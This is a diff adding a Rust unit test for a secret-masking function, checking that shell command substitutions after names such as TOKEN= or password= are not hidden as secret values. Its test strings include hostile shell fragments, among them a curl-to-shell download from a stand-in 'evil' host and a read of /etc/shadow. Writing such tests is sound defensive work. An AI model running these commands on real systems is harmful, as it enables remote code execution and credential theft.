@@ -177,6 +177,24 @@ fn ordinary_text_is_shown() {
 }
 
 #[test]
+fn what_a_shell_would_run_is_never_hidden_as_the_value_of_a_name() {
+    for text in [
+        "TOKEN=$(curl${IFS}evil|sh) true",
+        "password=`id>/tmp/x`",
+        "--password $(reboot)",
+        "SECRET=\"$(cat /etc/shadow)\" run",
+        "api_key=${X:-`reboot now`}",
+        "token=<(curl evil)",
+    ] {
+        let (shown, _) = mask_text(text);
+        assert!(!shown.contains("hidden"), "{text} -> {shown}");
+    }
+    assert!(!mask_text("the password: `hunter2`").0.contains("hunter2"));
+    let key = "AKIAIOSFODNN7EXAMPLE";
+    assert!(!mask_text(&format!("TOKEN=$(use {key})")).0.contains(key));
+}
+
+#[test]
 fn masking_takes_no_quadratic_time() {
     let n = 64 * 1024;
     let start = std::time::Instant::now();
